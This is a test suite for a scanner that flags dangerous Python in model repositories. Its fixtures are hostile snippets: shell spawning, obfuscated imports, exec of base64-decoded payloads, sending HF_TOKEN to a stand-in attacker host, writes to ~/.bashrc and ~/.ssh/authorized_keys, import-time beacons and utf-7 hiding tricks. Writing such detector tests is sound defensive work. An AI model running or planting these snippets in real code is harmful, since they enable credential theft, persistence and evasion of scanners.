import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { describe, test } from "node:test";
import { about, analyze, show } from "./helpers.js";

const MAL = "malicious";

async function verdictOf(src: string) {
  return (await analyze(src)).verdict;
}

describe("process execution", () => {
  const cases: [string, string][] = [
    ["os.system", 'import os\nos.system("echo x")\n'],
    ["os.popen", 'import os\ndef f():\n    os.popen("echo x")\n'],
    ["os.execv", 'import os\ndef f():\n    os.execv("/bin/echo", ["echo"])\n'],
    ["os.spawnl", 'import os\ndef f():\n    os.spawnl(os.P_WAIT, "/bin/echo")\n'],
    ["subprocess.run", 'import subprocess\ndef f():\n    subprocess.run(["echo"])\n'],
    ["subprocess.check_output", 'import subprocess\nsubprocess.check_output("echo", shell=True)\n'],
    ["pty.spawn", 'import pty\ndef f():\n    pty.spawn("/bin/sh")\n'],
    ["commands.getoutput", 'import commands\ndef f():\n    commands.getoutput("echo")\n'],
  ];
  for (const [name, src] of cases) {
    test(`${name} is malicious`, async () => {
      const r = await analyze(src);
      assert.equal(r.verdict, MAL, show(r.findings));
      assert.ok(about(r.findings, `${name}()`).length > 0, show(r.findings));
    });
  }
});

describe("aliases resolve to the real callable", () => {
  test("import os as o; o.system(...)", async () => {
    const r = await analyze('import os as o\no.system("echo x")\n');
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
  test("from subprocess import Popen as P; P(...)", async () => {
    const r = await analyze('from subprocess import Popen as P\ndef f():\n    P(["echo"])\n');
    assert.equal(about(r.findings, "subprocess.Popen()").length, 1, show(r.findings));
  });
  test("a variable bound to os.system", async () => {
    const r = await analyze('import os\nrun = os.system\nrun("echo x")\n');
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
  test("import os.path binds os; os.system still resolves", async () => {
    const r = await analyze('import os.path\nos.system("echo")\n');
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("from os import *", async () => {
    const r = await analyze('from os import *\nsystem("echo")\n');
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
  test("importlib.import_module with a literal is an import; the call through it resolves", async () => {
    const r = await analyze(
      'import importlib\nm = importlib.import_module("subprocess")\nm.call(["x"])\n',
    );
    assert.equal(about(r.findings, "subprocess.call()").length, 1, show(r.findings));
    assert.equal(about(r.findings, "not written in the source").length, 0, show(r.findings));
  });
  test("importlib.import_module with a computed name is suspicious", async () => {
    const r = await analyze(
      "import importlib\ndef load(name):\n    return importlib.import_module(name)\n",
    );
    assert.equal(r.verdict, "suspicious", show(r.findings));
  });
  test("a parameter shadows an imported name", async () => {
    const r = await analyze("import os\ndef f(os):\n    os.system('x')\n");
    assert.equal(r.verdict, "clean", show(r.findings));
  });
  test("sys.modules lookup", async () => {
    const r = await analyze('import sys\nsys.modules["os"].system("echo")\n');
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
  test("__builtins__ lookups reach eval", async () => {
    const r = await analyze('__builtins__.__dict__["ev" + "al"]("1+1")\n');
    assert.ok(about(r.findings, "builtins.eval()").length > 0, show(r.findings));
  });
});

describe("eval, exec, compile and decoded payloads", () => {
  test("exec of base64-decoded data is malicious, and the payload itself is analysed", async () => {
    const payload = Buffer.from("import os\nos.system('echo x')\n").toString("base64");
    const r = await analyze(`import base64\nexec(base64.b64decode("${payload}"))\n`);
    assert.equal(r.verdict, MAL);
    assert.equal(
      about(r.findings, "runs decoded data (base64.b64decode)").length,
      1,
      show(r.findings),
    );
    assert.equal(
      about(r.findings, "in code run by builtins.exec at line 2: os.system()").length,
      1,
      show(r.findings),
    );
  });
  test("decoding through a variable still taints the exec", async () => {
    const r = await analyze(
      "import zlib, base64\ndef f(s):\n    code = zlib.decompress(base64.b64decode(s))\n    exec(code)\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("plain decoding alone is clean", async () => {
    const r = await analyze(
      'import base64, binascii\nVOCAB = base64.b64decode("aGVsbG8=").decode().split()\nK = binascii.unhexlify("00ff")\n',
    );
    assert.equal(r.verdict, "clean", show(r.findings));
  });
  test("exec(marshal.loads(...)) is malicious", async () => {
    const r = await analyze("import marshal\ndef f(blob):\n    exec(marshal.loads(blob))\n");
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("eval in a function is suspicious; at import time it is malicious", async () => {
    assert.equal(await verdictOf("def f(s):\n    return eval(s)\n"), "suspicious");
    assert.equal(await verdictOf("X = eval(input_text)\n"), MAL);
  });
  test("exec of a literal string is analysed as code", async () => {
    const r = await analyze(
      "def f():\n    exec(\"import subprocess; subprocess.call(['echo'])\")\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("compile is suspicious", async () => {
    assert.equal(await verdictOf("def f(s):\n    return compile(s, 'x', 'exec')\n"), "suspicious");
  });
  test("Python 2 exec statement", async () => {
    const r = await analyze("exec \"import os; os.system('echo')\"\n");
    assert.equal(r.verdict, MAL, show(r.findings));
  });
});

describe("obfuscated names", () => {
  test("getattr(__import__('o'+'s'), 'sys'+'tem')(...)", async () => {
    const r = await analyze("getattr(__import__('o'+'s'), 'sys'+'tem')('echo x')\n");
    assert.equal(r.verdict, MAL, show(r.findings));
    const hit = about(r.findings, "os.system()");
    assert.equal(hit.length, 1, show(r.findings));
    assert.match(hit[0]?.message ?? "", /built at runtime/);
  });
  test("join, chr and reversed strings fold", async () => {
    const r = await analyze(
      "m = __import__(''.join(['s', 'u', 'b', 'p', 'r', 'o', 'c', 'e', 's', 's']))\n" +
        "getattr(m, chr(99) + 'all')(['x'])\n" +
        "getattr(__import__('so'[::-1]), 'metsys'[::-1])('x')\n",
    );
    assert.equal(about(r.findings, "subprocess.call()").length, 1, show(r.findings));
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
  test("__import__ of a base64-decoded name is malicious", async () => {
    const r = await analyze("import base64\nm = __import__(base64.b64decode('b3M=').decode())\n");
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("getattr with a computed name on a module outside model code is suspicious", async () => {
    const r = await analyze("import os\ndef f(name):\n    return getattr(os, name)\n");
    assert.equal(r.verdict, "suspicious", show(r.findings));
  });
  test("getattr on self, config, torch with computed names is clean", async () => {
    const r = await analyze(
      "import torch\nfrom torch import nn\nclass M(nn.Module):\n    def f(self, i, cfg):\n        a = getattr(self, f'layer_{i}')\n        setattr(self, 'x' + str(i), a)\n        return getattr(torch, cfg.dtype), getattr(nn, cfg.act)\n",
    );
    assert.equal(r.verdict, "clean", show(r.findings));
  });
});

describe("deserialisation", () => {
  test("torch.load without weights_only is suspicious; with weights_only=True it is clean", async () => {
    assert.equal(
      await verdictOf("import torch\ndef f(p):\n    return torch.load(p)\n"),
      "suspicious",
    );
    assert.equal(
      await verdictOf(
        "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=True)\n",
      ),
      "clean",
    );
    assert.equal(
      await verdictOf("import torch\ndef f(p):\n    return torch.load(p, weights_only=False)\n"),
      "suspicious",
    );
  });
  test("pickle.loads, dill.load, numpy.load(allow_pickle=True)", async () => {
    assert.equal(
      await verdictOf("import pickle\ndef f(b):\n    return pickle.loads(b)\n"),
      "suspicious",
    );
    assert.equal(
      await verdictOf("import dill\ndef f(b):\n    return dill.load(b)\n"),
      "suspicious",
    );
    assert.equal(
      await verdictOf("import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)\n"),
      "suspicious",
    );
    assert.equal(
      await verdictOf("import numpy as np\ndef f(p):\n    return np.load(p)\n"),
      "clean",
    );
  });
});

describe("network and secrets", () => {
  test("socket use in a function is suspicious, at import time malicious", async () => {
    assert.equal(
      await verdictOf("import socket\ndef f():\n    socket.create_connection(('h', 1))\n"),
      "suspicious",
    );
    assert.equal(await verdictOf("import socket\nS = socket.socket()\n"), MAL);
  });
  for (const mod of ["requests", "httpx", "aiohttp", "urllib.request", "http.client"]) {
    test(`importing ${mod} is suspicious`, async () => {
      assert.equal(await verdictOf(`import ${mod}\n`), "suspicious");
    });
  }
  test("reading HF_TOKEN and using the network is exfiltration", async () => {
    const r = await analyze(
      "import os, requests\ndef f():\n    t = os.getenv('HF_TOKEN')\n    requests.post('https://attacker.invalid', data=t)\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
    assert.ok(about(r.findings, "sends the secret HF_TOKEN").length > 0, show(r.findings));
  });
  test("secret reads alone are suspicious; cache settings are not secrets", async () => {
    assert.equal(await verdictOf("import os\nK = os.environ['OPENAI_API_KEY']\n"), "suspicious");
    assert.equal(
      await verdictOf(
        "import os\nC = os.environ.get('HF_HOME')\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
      ),
      "clean",
    );
  });
  test("dumping the whole environment is suspicious", async () => {
    assert.equal(
      await verdictOf("import os, json\ndef f():\n    return json.dumps(dict(os.environ))\n"),
      "suspicious",
    );
  });
});

describe("file writes outside the model folder", () => {
  test("appending to ~/.bashrc is malicious", async () => {
    const r = await analyze(
      "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("Path.home() / '.ssh' / 'authorized_keys' write_text is malicious", async () => {
    const r = await analyze(
      "from pathlib import Path\ndef f():\n    (Path.home() / '.ssh' / 'authorized_keys').write_text('k')\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("writing an absolute path is suspicious; reading it or writing a relative path is clean", async () => {
    assert.equal(await verdictOf("def f():\n    open('/tmp/x', 'w').write('1')\n"), "suspicious");
    assert.equal(await verdictOf("def f():\n    return open('/etc/hostname').read()\n"), "clean");
    assert.equal(await verdictOf("def f(d):\n    open(d + '/out.txt', mode='w')\n"), "clean");
  });
  test("shutil.rmtree of a parent path and os.remove", async () => {
    assert.equal(
      await verdictOf("import shutil\ndef f():\n    shutil.rmtree('../..')\n"),
      "suspicious",
    );
    assert.equal(await verdictOf("import shutil\ndef f(tmp):\n    shutil.rmtree(tmp)\n"), "clean");
    assert.equal(await verdictOf("import os\ndef f(p):\n    os.remove(p)\n"), "suspicious");
  });
});

describe("import time versus function scope", () => {
  test("module level, class body, decorator and default value run at import time", async () => {
    const r = await analyze(
      [
        "import subprocess",
        "subprocess.call(['a'])",
        "class A:",
        "    X = subprocess.call(['b'])",
        "    def m(self):",
        "        subprocess.call(['c'])",
        "@deco(subprocess.call(['d']))",
        "def g(x=subprocess.call(['e'])):",
        "    subprocess.call(['f'])",
        "h = lambda: subprocess.call(['g'])",
        "if __name__ == '__main__':",
        "    subprocess.call(['h'])",
        "",
      ].join("\n"),
    );
    const scopes = r.findings
      .filter((f) => f.message.startsWith("subprocess.call()"))
      .map((f) => [f.line, (f.evidence as { scope: string }).scope]);
    assert.deepEqual(scopes, [
      [2, "import-time"],
      [4, "import-time"],
      [6, "function"],
      [7, "import-time"],
      [8, "import-time"],
      [9, "function"],
      [10, "function"],
      [12, "function"],
    ]);
    const severity = (line: number) =>
      r.findings.find((f) => f.line === line && f.message.startsWith("subprocess"))?.severity;
    assert.equal(severity(2), "critical");
    assert.equal(severity(6), "critical");
  });
  test("import time raises the severity of suspicious calls", async () => {
    const r = await analyze(
      "import torch\nW = torch.load('w.pt')\ndef f():\n    return torch.load('w.pt')\n",
    );
    const [top, inner] = about(r.findings, "torch.load()");
    assert.equal(top?.severity, "high");
    assert.equal(inner?.severity, "medium");
  });
});

describe("positions", () => {
  test("line and column are 1-based and point at the call", async () => {
    const r = await analyze("import os\n\nx = 1\nif x:\n    y = os.system('echo')\n");
    const f = about(r.findings, "os.system()")[0];
    assert.equal(f?.line, 5);
    assert.equal(f?.column, 9);
  });
});

describe("strings and comments are not code", () => {
  test("dangerous names in strings, comments and docstrings", async () => {
    const r = await analyze(
      '"""Run os.system(\'x\') at your peril."""\n# os.system("rm -rf /")\nDOC = "subprocess.call(x)"\n',
    );
    assert.equal(r.verdict, "clean", show(r.findings));
  });
});

describe("plain model code is clean", () => {
  test("the harmless fixture repo's modeling, configuration and tokenizer files", async () => {
    for (const file of ["modeling_x.py", "configuration_x.py", "tokenization_x.py"]) {
      const src = readFileSync(
        new URL(`../../../fixtures/code/harmless/${file}`, import.meta.url),
        "utf8",
      );
      const r = await analyze(src);
      assert.equal(r.verdict, "clean", `${file}:\n${show(r.findings)}`);
      assert.ok(r.imports.length > 0);
    }
  });
  test("common idioms: typing, dataclasses, logging, os.path, functools, numpy, einops, importlib.util", async () => {
    const r = await analyze(
      [
        "from __future__ import annotations",
        "import importlib.util, os, math, logging, functools, collections",
        "import numpy as np",
        "from einops import rearrange",
        "from typing import Optional",
        "from dataclasses import dataclass, field",
        "logger = logging.getLogger(__name__)",
        "HAS_FLASH = importlib.util.find_spec('flash_attn') is not None",
        "ROOT = os.path.join(os.path.dirname(__file__), 'assets')",
        "@dataclass",
        "class Cfg:",
        "    dims: list = field(default_factory=list)",
        "@functools.lru_cache(maxsize=None)",
        "def table(n: int) -> np.ndarray:",
        "    return np.arange(n) * math.pi",
        "def shape(x):",
        "    return rearrange(x, 'b s d -> s b d')",
        "",
      ].join("\n"),
    );
    assert.equal(r.verdict, "clean", show(r.findings));
    assert.deepEqual(r.summary.otherImports, ["os"]);
  });
});

describe("hostile and unparseable input", () => {
  test("a syntax error is PYTHON_UNPARSEABLE (unscannable), and what parsed is still reported", async () => {
    const r = await analyze("import os\nos.system('echo')\ndef broken(:\n    pass\n");
    assert.ok(
      r.findings.some((f) => f.code === "PYTHON_UNPARSEABLE" && f.verdict === "unscannable"),
      show(r.findings),
    );
    assert.equal(r.verdict, MAL);
  });
  test("binary garbage is unscannable, never clean", async () => {
    const bytes = new Uint8Array(4096);
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919) % 256;
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const r = await analyzePythonSource(bytes, pythonPolicy);
    assert.ok(
      r.findings.some((f) => f.verdict === "unscannable"),
      show(r.findings),
    );
  });
  test("latin-1 source with a coding declaration parses", async () => {
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const text = "# -*- coding: latin-1 -*-\nNAME = 'caf\xe9'\nimport os\nos.system('x')\n";
    const r = await analyzePythonSource(
      Uint8Array.from(text, (c) => c.charCodeAt(0)),
      pythonPolicy,
    );
    assert.ok(!r.findings.some((f) => f.code === "PYTHON_UNPARSEABLE"), show(r.findings));
    assert.ok(r.findings.some((f) => f.message.startsWith("os.system()")));
  });
  test("Python 2 syntax (print statement, except X, e) does not crash", async () => {
    const r = await analyze(
      "import os\nprint 'hello'\ntry:\n    pass\nexcept Exception, e:\n    os.system('x')\n",
    );
    assert.equal(r.verdict, MAL, show(r.findings));
  });
  test("deeply nested expressions end in a finding, not a crash", async () => {
    const deep = `x = ${"(".repeat(3000)}1${")".repeat(3000)}\n`;
    const r = await analyze(deep);
    assert.ok(
      r.findings.some((f) => f.code === "BUDGET_EXCEEDED" && f.verdict === "unscannable"),
      show(r.findings),
    );
    const calls = `x = ${"f(".repeat(3000)}1${")".repeat(3000)}\n`;
    const r2 = await analyze(calls);
    assert.ok(
      r2.findings.some((f) => f.verdict === "unscannable"),
      show(r2.findings),
    );
  });
  test("a long attribute chain and a long concatenation finish", async () => {
    const r = await analyze(
      `y = a${".b".repeat(20000)}\nz = ${Array(5000).fill("'a'").join(" + ")}\n`,
    );
    assert.notEqual(r.verdict, MAL);
  });
  test("a file over the size limit is BUDGET_EXCEEDED", async () => {
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const small = {
      ...pythonPolicy,
      rules: {
        ...pythonPolicy.rules,
        limits: { ...pythonPolicy.rules.limits, maxSourceBytes: 100 },
      },
    };
    const r = await analyzePythonSource(new TextEncoder().encode("x = 1\n".repeat(100)), small);
    assert.equal(r.findings[0]?.code, "BUDGET_EXCEEDED");
  });
  test("a node budget stops huge trees", async () => {
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const small = {
      ...pythonPolicy,
      rules: { ...pythonPolicy.rules, limits: { ...pythonPolicy.rules.limits, maxNodes: 1000 } },
    };
    const r = await analyzePythonSource(
      new TextEncoder().encode("x = [1, 2, 3]\n".repeat(500)),
      small,
    );
    assert.equal(r.findings[0]?.code, "BUDGET_EXCEEDED");
  });
  test("exec of exec of exec… stops at the inline depth", async () => {
    let code = "import os; os.system('x')";
    for (let i = 0; i < 6; i++) code = `exec(${JSON.stringify(code)})`;
    const r = await analyze(`${code}\n`);
    assert.ok(
      r.findings.some((f) => f.code === "BUDGET_EXCEEDED"),
      show(r.findings),
    );
    assert.notEqual(r.verdict, "clean");
  });
});

describe("environment copies", () => {
  test("os.environ.copy() and os.environ.items() hand out every secret", async () => {
    const r = await analyze(
      "import os\ndef f():\n    env = os.environ.copy()\n    return list(os.environ.items())\n",
    );
    assert.equal(about(r.findings, "whole environment").length, 2, show(r.findings));
  });
  test("os.environ.pop of a token is a secret read", async () => {
    const r = await analyze("import os\ndef f():\n    return os.environ.pop('GITHUB_TOKEN')\n");
    assert.equal(r.verdict, "suspicious", show(r.findings));
  });
});

describe("functions called at import time", () => {
  test("findings in a module-level function called at module level (directly or through another) run at import time", async () => {
    const r = await analyze(
      "import socket\ndef _beacon():\n    socket.create_connection(('a', 1))\ndef _setup():\n    _beacon()\n_setup()\ndef unused():\n    socket.create_connection(('b', 2))\n",
    );
    const calls = about(r.findings, "socket.create_connection()");
    assert.deepEqual(
      calls.map((f) => [f.line, f.verdict, (f.evidence as { scope: string }).scope]),
      [
        [3, "malicious", "import-time"],
        [8, "suspicious", "function"],
      ],
    );
    assert.match(calls[0]?.message ?? "", /through _setup\(\) at line 6/);
  });
  test("a bare decorator name is called at definition time", async () => {
    const r = await analyze(
      "import os\ndef reg(f):\n    os.remove('x')\n    return f\n@reg\ndef g():\n    pass\n",
    );
    assert.equal(
      (about(r.findings, "os.remove()")[0]?.evidence as { scope?: string } | undefined)?.scope,
      "import-time",
    );
  });
});

describe("interpreter internals and look-alike names", () => {
  test("the __subclasses__ / __globals__ escape is suspicious", async () => {
    const r = await analyze("def f():\n    return ().__class__.__base__.__subclasses__()\n");
    assert.equal(r.verdict, "suspicious", show(r.findings));
    assert.ok(about(r.findings, ".__subclasses__").length > 0);
  });
  test("fullwidth identifiers are read as Python reads them (NFKC)", async () => {
    const r = await analyze("import ｏｓ\nｏｓ.ｓｙｓｔｅｍ('echo x')\n");
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
});

describe("source encodings", () => {
  test("a utf-7 coding declaration (code hidden in a comment) is unscannable", async () => {
    const r = await analyze("# -*- coding: utf-7 -*-\n# +AAo-import os+AAo-os.system('echo x')\n");
    assert.ok(
      r.findings.some((f) => f.code === "PYTHON_UNPARSEABLE" && /utf-7/.test(f.message)),
      show(r.findings),
    );
    assert.equal(r.verdict, "unscannable");
  });
  test("utf-8 and latin-1 declarations are read normally", async () => {
    assert.equal((await analyze("# -*- coding: utf-8 -*-\nimport torch\n")).verdict, "clean");
    assert.equal(
      (await analyze("#!/usr/bin/env python\n# vim: set fileencoding=latin-1 :\nimport torch\n"))
        .verdict,
      "clean",
    );
  });
});

describe("line endings", () => {
  test("lone carriage returns end lines, as Python reads them", async () => {
    const r = await analyze('# just a comment\rimport os\ros.system("echo x")\r');
    assert.equal(r.verdict, MAL, show(r.findings));
    assert.equal(about(r.findings, "os.system()")[0]?.line, 3);
  });
  test("CRLF files keep their line numbers", async () => {
    const r = await analyze("import os\r\n\r\nos.system('x')\r\n");
    assert.equal(about(r.findings, "os.system()")[0]?.line, 3);
  });
});

describe("the __main__ guard", () => {
  test("only the body of `if __name__ == '__main__'` is skipped on import", async () => {
    const r = await analyze(
      "import torch\nif __name__ == '__main__':\n    W = torch.load('a')\nelse:\n    W = torch.load('b')\nif __name__ != '__main__':\n    V = torch.load('c')\n",
    );
    assert.deepEqual(
      about(r.findings, "torch.load()").map((f) => [
        f.line,
        (f.evidence as { scope?: string } | undefined)?.scope,
      ]),
      [
        [3, "function"],
        [5, "import-time"],
        [7, "import-time"],
      ],
    );
  });
  test("a walrus binding resolves", async () => {
    const r = await analyze("import os\nif (run := os.system):\n    run('echo')\n");
    assert.equal(about(r.findings, "os.system()").length, 1, show(r.findings));
  });
});

describe("real-world idioms", () => {
  test("TOKENIZERS_PARALLELISM is configuration, not a token", async () => {
    assert.equal(await verdictOf("import os\nos.environ.get('TOKENIZERS_PARALLELISM')\n"), "clean");
  });
  test("compiling a CUDA extension at import time is suspicious", async () => {
    const r = await analyze(
      "from torch.utils.cpp_extension import load\nwkv = load(name='wkv', sources=['wkv_op.cpp'])\n",
    );
    assert.equal(r.verdict, "suspicious", show(r.findings));
  });
});

describe("classes and load time", () => {
  test("instantiating a class at import time runs its __init__ and the self-methods it calls", async () => {
    const r = await analyze(
      [
        "import requests",
        "class Beacon:",
        "    def __init__(self):",
        "        self._send()",
        "    def _send(self):",
        "        requests.get('https://attacker.invalid')",
        "    def unused(self):",
        "        requests.get('https://b.invalid')",
        "_b = Beacon()",
        "",
      ].join("\n"),
    );
    const gets = about(r.findings, "requests.get()");
    assert.deepEqual(
      gets.map((f) => [f.line, f.verdict]),
      [
        [6, "malicious"],
        [8, "suspicious"],
      ],
    );
  });
  test("a local function registered with atexit at import time runs", async () => {
    const r = await analyze(
      "import atexit, socket\ndef bye():\n    socket.create_connection(('a', 1))\natexit.register(bye)\n",
    );
    assert.equal(
      about(r.findings, "socket.create_connection()")[0]?.verdict,
      "malicious",
      show(r.findings),
    );
  });
  test("methods of an auto_map class run when the model loads", async () => {
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const src = new TextEncoder().encode(
      "import torch\nclass XModel:\n    def __init__(self):\n        self.w = torch.load('extra.bin')\n        eval('1')\n    def forward(self, x):\n        return eval('x')\n",
    );
    const plain = await analyzePythonSource(src, pythonPolicy);
    const loaded = await analyzePythonSource(src, pythonPolicy, { loadedClasses: ["XModel"] });
    const scopeOf = (r: typeof plain, line: number) =>
      (r.findings.find((f) => f.line === line)?.evidence as { scope?: string } | undefined)?.scope;
    assert.equal(scopeOf(plain, 5), "function");
    assert.equal(scopeOf(loaded, 5), "load-time");
    assert.equal(loaded.findings.find((f) => f.line === 5)?.verdict, "malicious"); // eval's import-time verdict
    assert.equal(scopeOf(loaded, 7), "function"); // forward does not run on load
    assert.match(loaded.findings.find((f) => f.line === 4)?.message ?? "", /when the model loads/);
  });
});

describe("inheritance and dynamic relative imports", () => {
  test("a loaded class runs its local base classes' load methods", async () => {
    const { analyzePythonSource } = await import("../../../src/scan/code/python.js");
    const { pythonPolicy } = await import("./helpers.js");
    const src = new TextEncoder().encode(
      "import socket\nclass Base:\n    def _init_weights(self, m):\n        socket.create_connection(('a', 1))\nclass XForCausalLM(Base):\n    pass\n",
    );
    const r = await analyzePythonSource(src, pythonPolicy, { loadedClasses: ["XForCausalLM"] });
    assert.equal(
      about(r.findings, "socket.create_connection()")[0]?.verdict,
      "malicious",
      show(r.findings),
    );
  });
  test("importlib.import_module('.helpers', package=...) is a relative import", async () => {
    const r = await analyze(
      "import importlib\nh = importlib.import_module('.helpers', package=__package__)\n",
    );
    assert.deepEqual(
      r.relativeImports.map((i) => [i.level, i.module]),
      [[1, "helpers"]],
    );
  });
});

test("a NUL byte makes the file unscannable", async () => {
  const r = await analyze("x = 1\u0000\nimport os\n");
  assert.equal(r.verdict, "unscannable", show(r.findings));
});

describe("namespace lookups", () => {
  for (const src of [
    "import os\nvars(os)['system']('echo')\n",
    "import os\nos.__dict__['sys' + 'tem']('echo')\n",
    "import sys\nsys.modules.get('os').system('echo')\n",
    "import builtins\ngetattr(builtins, 'ex' + 'ec')('import os')\n",
  ]) {
    test(JSON.stringify(src), async () => {
      const r = await analyze(src);
      assert.equal(r.verdict, MAL, show(r.findings));
    });
  }
});

describe("dangerous callables passed as values", () => {
  test("Thread(target=os.system) and map(eval, ...) count as calls", async () => {
    const r = await analyze(
      "import os, threading\nthreading.Thread(target=os.system, args=('echo',)).start()\ndef f(lines):\n    return list(map(eval, lines))\n",
    );
    assert.equal(about(r.findings, "passes os.system on").length, 1, show(r.findings));
    assert.equal(about(r.findings, "passes builtins.eval on").length, 1, show(r.findings));
    assert.equal(r.verdict, MAL);
  });
  test("ordinary callables passed around stay quiet", async () => {
    const r = await analyze(
      "import torch\nfrom functools import partial\ndef f(xs, layer):\n    return list(map(len, xs)), partial(torch.relu, inplace=True), sorted(xs, key=abs)\n",
    );
    assert.equal(r.verdict, "clean", show(r.findings));
  });
});

test("module constants passed as arguments are not callables", async () => {
  const r = await analyze(
    "import subprocess, socket\ndef f():\n    return socket.socket(socket.AF_INET), subprocess.run(['x'], stdout=subprocess.PIPE)\n",
  );
  assert.equal(about(r.findings, "passes").length, 0, show(r.findings));
});
